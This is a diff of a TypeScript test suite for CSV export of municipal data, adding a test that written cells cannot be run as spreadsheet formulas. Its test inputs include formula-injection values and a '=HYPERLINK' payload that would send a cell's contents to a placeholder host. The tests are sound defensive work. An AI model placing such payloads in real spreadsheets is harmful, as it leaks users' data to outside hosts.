@@ -72,9 +72,32 @@ describe("the files of a municipality", () => {
           ["a\n\nb\n", '"'],
           ["- x: y", "\ufeff"],
           ["2024-08-31", ";"],
+          ["=1+1", "=1+1"],
+          ["'", "'=1+1"],
+          ["@", "=\u0338 ;-2"],
         ],
       },
     );
+  });
+
+  test("have no cell that a spreadsheet would run, and read back as they were", async () => {
+    const noRecords = Object.fromEntries(conceptNames.map((name) => [name, []])) as unknown as RecordLists;
+    const formula = '=HYPERLINK("http://exempel.se?"&A1)';
+    const value = {
+      ...sampleValue,
+      indicator: "=N1",
+      unit: "@KF",
+      members: "-GENDER:K",
+      source: `x;${formula}`,
+      comment: formula,
+    };
+    await writeFolder(folder, { municipality: sample, records: noRecords, values: [value] });
+    const text = await fs.readFile(path.join(folder, "values.csv"), "utf8");
+    for (const delimiter of [",", ";", "\t"]) {
+      const cells = text.split(/\r?\n/).flatMap((line) => line.split(delimiter).map((cell) => cell.replace(/^"/, "")));
+      expect(cells.filter((cell) => /^\s*[=+@-](?!0\.5$)/.test(cell))).toEqual([]);
+    }
+    expect((await read(folder)).values).toEqual([value]);
   });
 
   test("are not written beside other files that would be read as the same municipality", async () => {
